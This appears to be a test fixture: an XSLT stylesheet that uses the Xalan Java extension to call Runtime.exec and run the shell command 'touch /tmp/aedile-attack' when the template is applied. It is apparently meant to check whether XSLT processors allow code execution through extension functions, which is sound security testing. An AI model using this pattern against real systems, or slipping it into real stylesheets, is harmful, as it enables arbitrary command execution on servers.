<?xml version="1.0" encoding="UTF-8"?>
<!-- A function that starts programs, elsewhere. -->
<!-- SPDX-License-Identifier: ISC -->
<xsl:stylesheet version="1.0"
    xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">
  <xsl:template match="/page">
    <html lang="en"><body>
      <xsl:value-of select="rt:exec(rt:getRuntime(), 'touch /tmp/aedile-attack')"/>
      <p>still here</p>
    </body></html>
  </xsl:template>
</xsl:stylesheet>
